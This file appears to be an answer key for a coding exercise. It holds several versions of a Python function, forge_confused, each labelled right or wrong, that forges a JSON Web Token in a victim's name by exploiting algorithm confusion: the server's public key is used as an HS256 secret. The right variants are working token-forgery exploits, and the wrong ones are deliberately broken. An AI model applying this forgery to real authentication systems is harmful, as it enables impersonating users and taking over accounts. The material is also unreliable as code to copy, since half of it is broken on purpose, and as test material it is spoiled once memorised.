# %% right: header, claims, and a signature with the bytes as they are
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    head, payload, _ = token.split(".")
    header = json.loads(decoded(head)) | {"alg": "HS256"}
    claims = json.loads(decoded(payload)) | {"sub": victim}
    signed = f"{encoded(header)}.{encoded(claims)}"
    return f"{signed}.{encoded(sign('HS256', public_key, signed.encode()))}"


# %% right: hmac from the standard library, in place of sign
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    import hashlib
    import hmac

    header, claims = (json_object(decoded(part)) for part in token.split(".")[:2])
    header["alg"], claims["sub"] = "HS256", victim
    parts = [encoded(header), encoded(claims)]
    mac = hmac.new(public_key, ".".join(parts).encode("ascii"), hashlib.sha256)
    return ".".join([*parts, encoded(mac.digest())])


# %% right: the header made anew, with the kid alone
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    first, second, *_ = token.split(".")
    kid = json.loads(decoded(first))["kid"]
    claims = json.loads(decoded(second))
    claims["sub"] = victim
    unsigned = ".".join(map(encoded, ({"alg": "HS256", "kid": kid}, claims)))
    return unsigned + "." + encoded(sign("HS256", public_key, unsigned.encode()))


# %% wrong: the key is tidied up first, so that it isn't the server's any more
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    head, payload, _ = token.split(".")
    header = json.loads(decoded(head)) | {"alg": "HS256"}
    claims = json.loads(decoded(payload)) | {"sub": victim}
    signed = f"{encoded(header)}.{encoded(claims)}"
    return f"{signed}.{encoded(sign('HS256', public_key.strip(), signed.encode()))}"


# %% wrong: signs the token as it was, and then changes the claims
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    head, payload, _ = token.split(".")
    header = json.loads(decoded(head)) | {"alg": "HS256"}
    signature = sign("HS256", public_key, f"{encoded(header)}.{payload}".encode())
    claims = json.loads(decoded(payload)) | {"sub": victim}
    return f"{encoded(header)}.{encoded(claims)}.{encoded(signature)}"


# %% wrong: the header goes on saying the algorithm of before
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    head, payload, _ = token.split(".")
    claims = json.loads(decoded(payload)) | {"sub": victim}
    signed = f"{head}.{encoded(claims)}"
    return f"{signed}.{encoded(sign('HS256', public_key, signed.encode()))}"


# %% wrong: a header without a kid
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    claims = json.loads(decoded(token.split(".")[1])) | {"sub": victim}
    signed = f"{encoded({'alg': 'HS256', 'typ': 'JWT'})}.{encoded(claims)}"
    return f"{signed}.{encoded(sign('HS256', public_key, signed.encode()))}"


# %% wrong: the first public key is kept, and signs for all others as well
_key = []


def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    _key.append(public_key)
    head, payload, _ = token.split(".")
    header = json.loads(decoded(head)) | {"alg": "HS256"}
    claims = json.loads(decoded(payload)) | {"sub": victim}
    signed = f"{encoded(header)}.{encoded(claims)}"
    return f"{signed}.{encoded(sign('HS256', _key[0], signed.encode()))}"


# %% wrong: the signature in hexadecimal digits, as sha256sum writes it
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    head, payload, _ = token.split(".")
    header = json.loads(decoded(head)) | {"alg": "HS256"}
    claims = json.loads(decoded(payload)) | {"sub": victim}
    signed = f"{encoded(header)}.{encoded(claims)}"
    return f"{signed}.{sign('HS256', public_key, signed.encode()).hex()}"


# %% wrong: only where the key begins as a key should; another one is given up
def forge_confused(token, victim, public_key):
    """A token in the victim's name, signed with a public key as if it were a secret."""
    begin = public_key.find(b"-----BEGIN")
    key = public_key[begin:]
    head, payload, _ = token.split(".")
    header = json.loads(decoded(head)) | {"alg": "HS256"}
    claims = json.loads(decoded(payload)) | {"sub": victim}
    signed = f"{encoded(header)}.{encoded(claims)}"
    return f"{signed}.{encoded(sign('HS256', key, signed.encode()))}"
